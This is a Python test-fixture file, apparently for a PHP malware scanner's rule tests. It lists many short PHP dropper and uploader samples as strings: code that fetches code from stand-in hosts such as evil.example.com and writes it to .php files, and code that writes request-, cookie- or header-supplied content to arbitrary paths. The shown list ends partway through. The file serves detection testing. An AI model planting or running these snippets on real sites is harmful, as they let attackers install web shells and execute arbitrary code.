# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4n: droppers, uploaders, polyglots and gated backdoors.

Variants of real-world shapes written for the tests (remote fetch to a .php file, request path +
body writes, write-then-include, minimal uploaders, images/.htaccess/.user.ini that carry or run
PHP, hash/cookie/header/user-agent gated sinks); nothing here comes from the malware corpus.
Each PHP snippet is checked as written, `padded(...)` (behind 5 KB of neutral HTML, the way code
is injected into a bigger page) and `embedded(...)` (at the top of a 35 KB plugin-style file).
Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import embedded, padded, plain

_HT_PAD = (
    "# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\n"
    "RewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\n"
    "RewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress\n"
    + "".join(f"Redirect 301 /old-page-{i}.html https://www.example.com/new-page-{i}/\n" for i in range(70))
    + '<IfModule mod_expires.c>\nExpiresActive On\nExpiresByType image/jpeg "access 1 year"\n</IfModule>\n'
)
_INI_PAD = "".join(
    f"; setting {i}\nmemory_limit = 256M\nupload_max_filesize = 64M\npost_max_size = 64M\nmax_execution_time = 300\n"
    for i in range(50)
)


def ht_padded(conf: str) -> bytes:
    """The .htaccess lines after about 5 KB of ordinary rewrite/redirect/expires directives."""
    return (_HT_PAD + conf).encode()


def ini_padded(conf: str) -> bytes:
    """The .user.ini lines after about 5 KB of ordinary settings."""
    return (_INI_PAD + conf).encode()


CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php file_put_contents('wp-cache.php', file_get_contents('http://cdn-update.example.net/x.txt')); ?>"
        ),
        True,
    ),  # a/a01.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php file_put_contents('wp-cache.php', file_get_contents('http://cdn-update.example.net/x.txt')); ?>"
        ),
        True,
    ),  # a/a01.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php file_put_contents('wp-cache.php', file_get_contents('http://cdn-update.example.net/x.txt')); ?>"
        ),
        True,
    ),  # a/a01.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$u = 'http://203.0.113.7/p.txt';\n$d = @file_get_contents($u);\nfile_put_contents(__DIR__ . '/inc.php', $d);\ninclude __DIR__ . '/inc.php';\n"
        ),
        True,
    ),  # a/a02.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$u = 'http://203.0.113.7/p.txt';\n$d = @file_get_contents($u);\nfile_put_contents(__DIR__ . '/inc.php', $d);\ninclude __DIR__ . '/inc.php';\n"
        ),
        True,
    ),  # a/a02.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$u = 'http://203.0.113.7/p.txt';\n$d = @file_get_contents($u);\nfile_put_contents(__DIR__ . '/inc.php', $d);\ninclude __DIR__ . '/inc.php';\n"
        ),
        True,
    ),  # a/a02.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$ch = curl_init('https://paste.example.org/raw/aZ9k');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$c = curl_exec($ch);\ncurl_close($ch);\n$f = fopen('lib-loader.php', 'w');\nfwrite($f, $c);\nfclose($f);\n"
        ),
        True,
    ),  # a/a03.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$ch = curl_init('https://paste.example.org/raw/aZ9k');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$c = curl_exec($ch);\ncurl_close($ch);\n$f = fopen('lib-loader.php', 'w');\nfwrite($f, $c);\nfclose($f);\n"
        ),
        True,
    ),  # a/a03.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$ch = curl_init('https://paste.example.org/raw/aZ9k');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$c = curl_exec($ch);\ncurl_close($ch);\n$f = fopen('lib-loader.php', 'w');\nfwrite($f, $c);\nfclose($f);\n"
        ),
        True,
    ),  # a/a03.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain("<?php @copy('http://files.example.com/s.txt', 'shell.php'); echo 'done';"),
        True,
    ),  # a/a04.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded("<?php @copy('http://files.example.com/s.txt', 'shell.php'); echo 'done';"),
        True,
    ),  # a/a04.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded("<?php @copy('http://files.example.com/s.txt', 'shell.php'); echo 'done';"),
        True,
    ),  # a/a04.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            '<?php copy("https://pastebin.com/raw/Xy12Ab", $_SERVER[\'DOCUMENT_ROOT\'] . "/wp-includes/class-wp-cache.php");'
        ),
        True,
    ),  # a/a05.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            '<?php copy("https://pastebin.com/raw/Xy12Ab", $_SERVER[\'DOCUMENT_ROOT\'] . "/wp-includes/class-wp-cache.php");'
        ),
        True,
    ),  # a/a05.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            '<?php copy("https://pastebin.com/raw/Xy12Ab", $_SERVER[\'DOCUMENT_ROOT\'] . "/wp-includes/class-wp-cache.php");'
        ),
        True,
    ),  # a/a05.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$fp = fsockopen('evil.example.com', 80, $en, $es, 10);\nfputs($fp, \"GET /s.txt HTTP/1.0\\r\\nHost: evil.example.com\\r\\n\\r\\n\");\n$b = '';\nwhile (!feof($fp)) { $b .= fgets($fp, 1024); }\nfclose($fp);\n$body = substr($b, strpos($b, \"\\r\\n\\r\\n\") + 4);\nfile_put_contents('mod.php', $body);\n"
        ),
        True,
    ),  # a/a06.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$fp = fsockopen('evil.example.com', 80, $en, $es, 10);\nfputs($fp, \"GET /s.txt HTTP/1.0\\r\\nHost: evil.example.com\\r\\n\\r\\n\");\n$b = '';\nwhile (!feof($fp)) { $b .= fgets($fp, 1024); }\nfclose($fp);\n$body = substr($b, strpos($b, \"\\r\\n\\r\\n\") + 4);\nfile_put_contents('mod.php', $body);\n"
        ),
        True,
    ),  # a/a06.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$fp = fsockopen('evil.example.com', 80, $en, $es, 10);\nfputs($fp, \"GET /s.txt HTTP/1.0\\r\\nHost: evil.example.com\\r\\n\\r\\n\");\n$b = '';\nwhile (!feof($fp)) { $b .= fgets($fp, 1024); }\nfclose($fp);\n$body = substr($b, strpos($b, \"\\r\\n\\r\\n\") + 4);\nfile_put_contents('mod.php', $body);\n"
        ),
        True,
    ),  # a/a06.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$src = fopen('http://198.51.100.3/p.txt', 'r');\n$dst = fopen('./images/.cache.php', 'w');\nstream_copy_to_stream($src, $dst);\nfclose($src); fclose($dst);\n"
        ),
        True,
    ),  # a/a07.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$src = fopen('http://198.51.100.3/p.txt', 'r');\n$dst = fopen('./images/.cache.php', 'w');\nstream_copy_to_stream($src, $dst);\nfclose($src); fclose($dst);\n"
        ),
        True,
    ),  # a/a07.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$src = fopen('http://198.51.100.3/p.txt', 'r');\n$dst = fopen('./images/.cache.php', 'w');\nstream_copy_to_stream($src, $dst);\nfclose($src); fclose($dst);\n"
        ),
        True,
    ),  # a/a07.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php file_put_contents('a.php', file_get_contents(base64_decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcy50eHQ='))); chmod('a.php', 0755);"
        ),
        True,
    ),  # a/a08.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php file_put_contents('a.php', file_get_contents(base64_decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcy50eHQ='))); chmod('a.php', 0755);"
        ),
        True,
    ),  # a/a08.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php file_put_contents('a.php', file_get_contents(base64_decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcy50eHQ='))); chmod('a.php', 0755);"
        ),
        True,
    ),  # a/a08.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$x = @file_get_contents('http://192.0.2.9/b.txt');\nif ($x) {\n  $fn = dirname(__FILE__) . '/' . md5(time()) . '.php';\n  @file_put_contents($fn, $x);\n  @include($fn);\n  @unlink($fn);\n}\n"
        ),
        True,
    ),  # a/a09.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$x = @file_get_contents('http://192.0.2.9/b.txt');\nif ($x) {\n  $fn = dirname(__FILE__) . '/' . md5(time()) . '.php';\n  @file_put_contents($fn, $x);\n  @include($fn);\n  @unlink($fn);\n}\n"
        ),
        True,
    ),  # a/a09.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$x = @file_get_contents('http://192.0.2.9/b.txt');\nif ($x) {\n  $fn = dirname(__FILE__) . '/' . md5(time()) . '.php';\n  @file_put_contents($fn, $x);\n  @include($fn);\n  @unlink($fn);\n}\n"
        ),
        True,
    ),  # a/a09.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\nfunction grab($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); $r = curl_exec($c); curl_close($c); return $r; }\nfile_put_contents('wp-confiq.php', grab('http://update.example.info/y'));\n"
        ),
        True,
    ),  # a/a10.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\nfunction grab($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); $r = curl_exec($c); curl_close($c); return $r; }\nfile_put_contents('wp-confiq.php', grab('http://update.example.info/y'));\n"
        ),
        True,
    ),  # a/a10.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\nfunction grab($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); $r = curl_exec($c); curl_close($c); return $r; }\nfile_put_contents('wp-confiq.php', grab('http://update.example.info/y'));\n"
        ),
        True,
    ),  # a/a10.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$url = $_GET['u'];\n$name = $_GET['n'];\nfile_put_contents($name, file_get_contents($url));\necho 'saved ' . $name;\n"
        ),
        True,
    ),  # a/a11.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$url = $_GET['u'];\n$name = $_GET['n'];\nfile_put_contents($name, file_get_contents($url));\necho 'saved ' . $name;\n"
        ),
        True,
    ),  # a/a11.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$url = $_GET['u'];\n$name = $_GET['n'];\nfile_put_contents($name, file_get_contents($url));\necho 'saved ' . $name;\n"
        ),
        True,
    ),  # a/a11.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php @copy($_REQUEST['src'], $_REQUEST['dst']); ?>"),
        True,
    ),  # a/a12.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php @copy($_REQUEST['src'], $_REQUEST['dst']); ?>"),
        True,
    ),  # a/a12.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php @copy($_REQUEST['src'], $_REQUEST['dst']); ?>"),
        True,
    ),  # a/a12.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$data = implode('', file('http://evil.example.com/sh.txt'));\n$h = fopen(\"sh.php\", \"w+\");\nfputs($h, $data);\nfclose($h);\n"
        ),
        True,
    ),  # a/a13.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$data = implode('', file('http://evil.example.com/sh.txt'));\n$h = fopen(\"sh.php\", \"w+\");\nfputs($h, $data);\nfclose($h);\n"
        ),
        True,
    ),  # a/a13.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$data = implode('', file('http://evil.example.com/sh.txt'));\n$h = fopen(\"sh.php\", \"w+\");\nfputs($h, $data);\nfclose($h);\n"
        ),
        True,
    ),  # a/a13.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain("<?php $c = file_get_contents('http://evil.example.com/c.txt'); eval('?>' . $c);"),
        True,
    ),  # a/a14.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded("<?php $c = file_get_contents('http://evil.example.com/c.txt'); eval('?>' . $c);"),
        True,
    ),  # a/a14.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded("<?php $c = file_get_contents('http://evil.example.com/c.txt'); eval('?>' . $c);"),
        True,
    ),  # a/a14.php embedded
    (
        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
        plain("<?php system('wget http://evil.example.com/s.txt -O s.php');"),
        True,
    ),  # a/a15.php
    (
        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
        padded("<?php system('wget http://evil.example.com/s.txt -O s.php');"),
        True,
    ),  # a/a15.php padded
    (
        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
        embedded("<?php system('wget http://evil.example.com/s.txt -O s.php');"),
        True,
    ),  # a/a15.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$fp = fopen('up.php', 'w');\n$ch = curl_init('http://evil.example.com/up.txt');\ncurl_setopt($ch, CURLOPT_FILE, $fp);\ncurl_exec($ch);\ncurl_close($ch);\nfclose($fp);\n"
        ),
        True,
    ),  # a/a16.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$fp = fopen('up.php', 'w');\n$ch = curl_init('http://evil.example.com/up.txt');\ncurl_setopt($ch, CURLOPT_FILE, $fp);\ncurl_exec($ch);\ncurl_close($ch);\nfclose($fp);\n"
        ),
        True,
    ),  # a/a16.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$fp = fopen('up.php', 'w');\n$ch = curl_init('http://evil.example.com/up.txt');\ncurl_setopt($ch, CURLOPT_FILE, $fp);\ncurl_exec($ch);\ncurl_close($ch);\nfclose($fp);\n"
        ),
        True,
    ),  # a/a16.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $u = 'ht' . 'tp://' . 'evil.example.com/' . 'x.txt'; $p = 'wp-' . 'load2' . '.php'; file_put_contents($p, file_get_contents($u));"
        ),
        True,
    ),  # a/a17.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $u = 'ht' . 'tp://' . 'evil.example.com/' . 'x.txt'; $p = 'wp-' . 'load2' . '.php'; file_put_contents($p, file_get_contents($u));"
        ),
        True,
    ),  # a/a17.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $u = 'ht' . 'tp://' . 'evil.example.com/' . 'x.txt'; $p = 'wp-' . 'load2' . '.php'; file_put_contents($p, file_get_contents($u));"
        ),
        True,
    ),  # a/a17.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$p = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/cache.php';\nif (!file_exists($p)) {\n    file_put_contents($p, file_get_contents('https://raw.githubusercontent.com/someone/tools/main/s.php'));\n}\n"
        ),
        True,
    ),  # a/a18.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$p = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/cache.php';\nif (!file_exists($p)) {\n    file_put_contents($p, file_get_contents('https://raw.githubusercontent.com/someone/tools/main/s.php'));\n}\n"
        ),
        True,
    ),  # a/a18.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$p = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/cache.php';\nif (!file_exists($p)) {\n    file_put_contents($p, file_get_contents('https://raw.githubusercontent.com/someone/tools/main/s.php'));\n}\n"
        ),
        True,
    ),  # a/a18.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            '<?php\n$remote = "http://198.51.100.20/load.txt";\n$local = "wp-content/plugins/hello-dolly/hello2.php";\n$content = file_get_contents($remote);\n$handle = fopen($local, \'w\');\nfwrite($handle, $content);\nfclose($handle);\n@chmod($local, 0644);\n'
        ),
        True,
    ),  # a/a19.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            '<?php\n$remote = "http://198.51.100.20/load.txt";\n$local = "wp-content/plugins/hello-dolly/hello2.php";\n$content = file_get_contents($remote);\n$handle = fopen($local, \'w\');\nfwrite($handle, $content);\nfclose($handle);\n@chmod($local, 0644);\n'
        ),
        True,
    ),  # a/a19.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            '<?php\n$remote = "http://198.51.100.20/load.txt";\n$local = "wp-content/plugins/hello-dolly/hello2.php";\n$content = file_get_contents($remote);\n$handle = fopen($local, \'w\');\nfwrite($handle, $content);\nfclose($handle);\n@chmod($local, 0644);\n'
        ),
        True,
    ),  # a/a19.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php if(!function_exists('curl_init')) die; $ch=curl_init(); curl_setopt($ch,CURLOPT_URL,$_POST['url']); curl_setopt($ch,CURLOPT_RETURNTRANSFER,1); $r=curl_exec($ch); file_put_contents($_POST['save'],$r);"
        ),
        True,
    ),  # a/a20.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php if(!function_exists('curl_init')) die; $ch=curl_init(); curl_setopt($ch,CURLOPT_URL,$_POST['url']); curl_setopt($ch,CURLOPT_RETURNTRANSFER,1); $r=curl_exec($ch); file_put_contents($_POST['save'],$r);"
        ),
        True,
    ),  # a/a20.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php if(!function_exists('curl_init')) die; $ch=curl_init(); curl_setopt($ch,CURLOPT_URL,$_POST['url']); curl_setopt($ch,CURLOPT_RETURNTRANSFER,1); $r=curl_exec($ch); file_put_contents($_POST['save'],$r);"
        ),
        True,
    ),  # a/a20.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$p = $_POST['path'];\n$b = $_POST['body'];\n$f = fopen($p, 'w');\nfwrite($f, base64_decode($b));\nfclose($f);\n"
        ),
        True,
    ),  # a/b01.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$p = $_POST['path'];\n$b = $_POST['body'];\n$f = fopen($p, 'w');\nfwrite($f, base64_decode($b));\nfclose($f);\n"
        ),
        True,
    ),  # a/b01.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$p = $_POST['path'];\n$b = $_POST['body'];\n$f = fopen($p, 'w');\nfwrite($f, base64_decode($b));\nfclose($f);\n"
        ),
        True,
    ),  # a/b01.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$name = $_REQUEST['n'];\n$content = base64_decode($_REQUEST['c']);\n$fh = @fopen($name, \"wb\");\n@fwrite($fh, $content);\n@fclose($fh);\necho \"ok\";\n"
        ),
        True,
    ),  # a/b02.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$name = $_REQUEST['n'];\n$content = base64_decode($_REQUEST['c']);\n$fh = @fopen($name, \"wb\");\n@fwrite($fh, $content);\n@fclose($fh);\necho \"ok\";\n"
        ),
        True,
    ),  # a/b02.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$name = $_REQUEST['n'];\n$content = base64_decode($_REQUEST['c']);\n$fh = @fopen($name, \"wb\");\n@fwrite($fh, $content);\n@fclose($fh);\necho \"ok\";\n"
        ),
        True,
    ),  # a/b02.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php file_put_contents($_POST['f'], $_POST['d']);"),
        True,
    ),  # a/b03.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php file_put_contents($_POST['f'], $_POST['d']);"),
        True,
    ),  # a/b03.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php file_put_contents($_POST['f'], $_POST['d']);"),
        True,
    ),  # a/b03.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$target = $_SERVER['DOCUMENT_ROOT'] . '/' . $_GET['file'];\nfile_put_contents($target, base64_decode($_POST['data']));\n"
        ),
        True,
    ),  # a/b04.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$target = $_SERVER['DOCUMENT_ROOT'] . '/' . $_GET['file'];\nfile_put_contents($target, base64_decode($_POST['data']));\n"
        ),
        True,
    ),  # a/b04.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$target = $_SERVER['DOCUMENT_ROOT'] . '/' . $_GET['file'];\nfile_put_contents($target, base64_decode($_POST['data']));\n"
        ),
        True,
    ),  # a/b04.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $d = json_decode(file_get_contents('php://input'), true); file_put_contents($d['p'], base64_decode($d['c']));"
        ),
        True,
    ),  # a/b05.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $d = json_decode(file_get_contents('php://input'), true); file_put_contents($d['p'], base64_decode($d['c']));"
        ),
        True,
    ),  # a/b05.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $d = json_decode(file_get_contents('php://input'), true); file_put_contents($d['p'], base64_decode($d['c']));"
        ),
        True,
    ),  # a/b05.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php file_put_contents($_COOKIE['p'], gzinflate(base64_decode($_COOKIE['d'])));"),
        True,
    ),  # a/b06.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php file_put_contents($_COOKIE['p'], gzinflate(base64_decode($_COOKIE['d'])));"),
        True,
    ),  # a/b06.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php file_put_contents($_COOKIE['p'], gzinflate(base64_decode($_COOKIE['d'])));"),
        True,
    ),  # a/b06.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php foreach ($_POST['files'] as $n => $c) { file_put_contents($n, base64_decode($c)); } echo count($_POST['files']);"
        ),
        True,
    ),  # a/b07.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php foreach ($_POST['files'] as $n => $c) { file_put_contents($n, base64_decode($c)); } echo count($_POST['files']);"
        ),
        True,
    ),  # a/b07.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php foreach ($_POST['files'] as $n => $c) { file_put_contents($n, base64_decode($c)); } echo count($_POST['files']);"
        ),
        True,
    ),  # a/b07.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php $h = getallheaders(); file_put_contents($h['X-Path'], base64_decode($h['X-Body']));"),
        True,
    ),  # a/b08.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php $h = getallheaders(); file_put_contents($h['X-Path'], base64_decode($h['X-Body']));"),
        True,
    ),  # a/b08.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php $h = getallheaders(); file_put_contents($h['X-Path'], base64_decode($h['X-Body']));"),
        True,
    ),  # a/b08.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$fn = trim($_POST['fn']);\n$src = $_POST['src'];\nif (get_magic_quotes_gpc()) $src = stripslashes($src);\n$fp = fopen($fn, 'w');\nif ($fp) { fwrite($fp, $src); fclose($fp); echo 'saved'; }\n"
        ),
        True,
    ),  # a/b09.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$fn = trim($_POST['fn']);\n$src = $_POST['src'];\nif (get_magic_quotes_gpc()) $src = stripslashes($src);\n$fp = fopen($fn, 'w');\nif ($fp) { fwrite($fp, $src); fclose($fp); echo 'saved'; }\n"
        ),
        True,
    ),  # a/b09.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$fn = trim($_POST['fn']);\n$src = $_POST['src'];\nif (get_magic_quotes_gpc()) $src = stripslashes($src);\n$fp = fopen($fn, 'w');\nif ($fp) { fwrite($fp, $src); fclose($fp); echo 'saved'; }\n"
        ),
        True,
    ),  # a/b09.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\nfunction w($a, $b) { $h = fopen($a, 'w'); fwrite($h, $b); fclose($h); }\nw($_POST['a'], base64_decode($_POST['b']));\n"
        ),
        True,
    ),  # a/b10.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\nfunction w($a, $b) { $h = fopen($a, 'w'); fwrite($h, $b); fclose($h); }\nw($_POST['a'], base64_decode($_POST['b']));\n"
        ),
        True,
    ),  # a/b10.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\nfunction w($a, $b) { $h = fopen($a, 'w'); fwrite($h, $b); fclose($h); }\nw($_POST['a'], base64_decode($_POST['b']));\n"
        ),
        True,
    ),  # a/b10.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$dir = isset($_GET['d']) ? $_GET['d'] : '.';\n$file = $dir . '/' . $_GET['f'];\n$code = base64_decode(str_rot13($_POST['x']));\n$h = fopen($file, 'w+');\nfputs($h, $code);\nfclose($h);\n"
        ),
        True,
    ),  # a/b11.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$dir = isset($_GET['d']) ? $_GET['d'] : '.';\n$file = $dir . '/' . $_GET['f'];\n$code = base64_decode(str_rot13($_POST['x']));\n$h = fopen($file, 'w+');\nfputs($h, $code);\nfclose($h);\n"
        ),
        True,
    ),  # a/b11.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$dir = isset($_GET['d']) ? $_GET['d'] : '.';\n$file = $dir . '/' . $_GET['f'];\n$code = base64_decode(str_rot13($_POST['x']));\n$h = fopen($file, 'w+');\nfputs($h, $code);\nfclose($h);\n"
        ),
        True,
    ),  # a/b11.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $a = $_REQUEST; if (isset($a['fn'], $a['dt'])) { $r = fopen($a['fn'], 'w'); fwrite($r, base64_decode($a['dt'])); fclose($r); }"
        ),
        True,
    ),  # a/b12.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $a = $_REQUEST; if (isset($a['fn'], $a['dt'])) { $r = fopen($a['fn'], 'w'); fwrite($r, base64_decode($a['dt'])); fclose($r); }"
        ),
        True,
    ),  # a/b12.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $a = $_REQUEST; if (isset($a['fn'], $a['dt'])) { $r = fopen($a['fn'], 'w'); fwrite($r, base64_decode($a['dt'])); fclose($r); }"
        ),
        True,
    ),  # a/b12.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\n$code = base64_decode($_POST['c']);\n$tmp = tempnam(sys_get_temp_dir(), 'x');\nfile_put_contents($tmp, $code);\ninclude $tmp;\nunlink($tmp);\n"
        ),
